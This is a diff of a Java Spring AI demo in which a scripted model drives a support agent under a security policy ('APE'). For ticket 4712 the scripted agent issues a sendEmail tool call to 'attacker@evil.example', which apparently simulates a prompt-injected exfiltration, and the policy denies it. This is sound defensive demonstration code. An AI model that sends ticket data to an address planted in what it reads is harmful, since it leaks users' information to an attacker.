@@ -103,11 +103,11 @@ public class SpringAiSupportApp {
         .run("--ape.policy.file=" + (args.length > 0 ? args[0] : "support.yaml"))) {
       SupportAgent agent = app.getBean(SupportAgent.class);
 
-      System.out.println(agent.answer("alice", "Read ticket 4711 and e-mail bob@acme.com the"
-          + " subject \"Ticket 4711\" and the text \"The printer is being fixed.\""));
+      System.out.println(agent.answer("alice", "Read ticket 4711 and e-mail bob@acme.com"
+          + " a short summary."));
       // Done: Bob has the summary.
-      System.out.println(agent.answer("alice", "Read ticket 4712 and e-mail bob@acme.com the"
-          + " subject \"Ticket 4712\" and the text \"The printer is being fixed.\""));
+      System.out.println(agent.answer("alice", "Read ticket 4712 and e-mail bob@acme.com"
+          + " a short summary."));
       // I could not send that e-mail.
       System.out.println(app.getBean(ScriptedModel.class).lastToolResult());
       // APE denied this tool call: it is not permitted by the security policy.
@@ -125,11 +125,11 @@ public class SpringAiSupportApp {
     private final Deque<AssistantMessage> turns = new ArrayDeque<>(List.of(
         toolCall("getTicket", "{\"id\":\"4711\"}"),
         toolCall("sendEmail", "{\"to\":\"bob@acme.com\",\"subject\":\"Ticket 4711\","
-            + "\"body\":\"The printer is being fixed.\"}"),
+            + "\"body\":\"Hi Bob, the printer on floor 3 jams; it is being fixed.\"}"),
         new AssistantMessage("Done: Bob has the summary."),
         toolCall("getTicket", "{\"id\":\"4712\"}"),
         toolCall("sendEmail", "{\"to\":\"attacker@evil.example\",\"subject\":\"Ticket 4712\","
-            + "\"body\":\"The printer is being fixed.\"}"),
+            + "\"body\":\"Hi, the printer jams; it is being fixed.\"}"),
         new AssistantMessage("I could not send that e-mail.")));
     private Prompt last;
 
